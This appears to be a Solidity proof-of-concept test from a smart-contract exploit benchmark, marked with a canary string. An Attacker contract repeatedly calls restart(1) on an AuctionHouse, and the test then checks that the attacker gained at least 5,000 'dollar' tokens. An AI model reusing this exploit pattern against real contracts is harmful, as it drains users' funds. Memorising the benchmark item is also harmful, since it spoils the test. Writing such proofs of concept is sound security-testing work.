// SPDX-License-Identifier: AGPL-3.0-only
pragma solidity 0.8.30;

// assay-canary-19c91a33-13db-4307-8ceb-653928c9b402
import "../Base.sol";

contract Attacker {
    function run(AuctionHouse house) external {
        for (uint256 i = 0; i < 20; i++) {
            try house.restart(1) {} catch {}
        }
    }
}

contract Proof is Base {
    Attacker private other;

    function start() internal override {
        other = new Attacker();
    }

    function exploit() public {
        other.run(house);
    }

    function test_Exploit() public {
        exploit();
        require(dollar.balanceOf(address(other)) >= 5_000e18, "no gain");
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
